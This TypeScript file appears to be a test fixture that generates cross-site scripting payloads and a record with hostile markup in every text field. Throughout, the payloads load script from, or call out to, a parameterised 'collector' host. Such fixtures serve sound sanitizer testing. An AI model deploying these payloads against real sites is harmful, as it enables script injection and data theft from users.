/** Markup that acts as soon as a browser takes it for such. Everything it does is to call the collector or set `pwned`. */
export function createHostileMarkup(collector: string): readonly string[] {
  const act = `window.pwned=1;fetch('${collector}/act');alert(1)`
  return [
    `<script>${act}</script>`,
    `<script src="${collector}/script.js"></script>`,
    `</script><script>${act}</script>`,
    `</title></textarea></style></pre><script>${act}</script>`,
    `<!-- --><script>${act}</script><!--`,
    `--><script>${act}</script>`,
    `<img src="${collector}/img.png" onerror="${act}">`,
    `"><img src=x onerror="${act}">`,
    `<svg onload="${act}"><image href="${collector}/svg.png"/></svg>`,
    `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
    `<iframe src="${collector}/frame"></iframe>`,
    `<object data="${collector}/object"></object><embed src="${collector}/embed">`,
    `<meta http-equiv="refresh" content="0;url=${collector}/refresh">`,
    `<style>@import "${collector}/import.css"; body { background: url(${collector}/background.png) }</style>`,
    `<link rel="stylesheet" href="${collector}/link.css"><link rel="prefetch" href="${collector}/prefetch">`,
    `<base href="${collector}/base/">`,
    `<form id="f" action="${collector}/form" method="post"><input name="a"></form><script>f.submit()</script>`,
    `<video src="${collector}/video.mp4" autoplay onerror="${act}"></video>`,
    `<body onload="${act}">`,
    `<details open ontoggle="${act}">`,
    `<a href="javascript:${act}" autofocus onfocus="${act}">click</a>`,
    `+ADw-script+AD4-${act}+ADw-/script+AD4-`,
    `\u2028<script>${act}</script>\u2029`,
    `\ufeff\u00a0<script>${act}</script>`,
    `&lt;script&gt;${act}&lt;/script&gt;&#60;script&#62;`,
    '\ud83d\ude00 \\u003cscript\\u003e \\" ]]> %3Cscript%3E',
  ]
}

/** A live record with hostile markup in every field that takes text. */
export function createHostileRecord(collector: string): Readonly<Record<string, unknown>> {
  const markup = createHostileMarkup(collector)
  const all = markup.join('\n')
  const short = markup.filter((text) => text.length <= 90)
  const address = (name: string) => `${collector}/${name}?"><img/src=x/onerror=window.pwned=1><!--</script>`
  return {
    state: 1,
    category: `<script src=${collector}/c.js></script>${'<img src=x onerror=window.pwned=1>'}`,
    title: `</title><script>window.pwned=1</script><img src=${collector}/title.png onerror=window.pwned=1>`,
    language: 'English',
    speakers: ['<svg onload=window.pwned=1>', ...markup.filter((text) => text.length <= 255)],
    tags: ['<img src=x onerror=window.pwned=1>', ...short],
    summary: all,
    description: `${all}${all}`,
    quality_notes: `<!doctype html><html><head>${all}`,
    copyright_text: `-->${all}<plaintext>`,
    embed: `<iframe src="${collector}/player" width="640" height="390"></iframe>`,
    thumbnail_url: address('thumbnail'),
    source_url: address('source'),
    video_ogv_url: address('ogv'),
    video_mp4_url: address('mp4'),
    video_webm_url: address('webm'),
    video_flv_url: address('flv'),
    whiteboard: '<script>window.pwned=1</script><img src=x onerror=window.pwned=1>',
  }
}
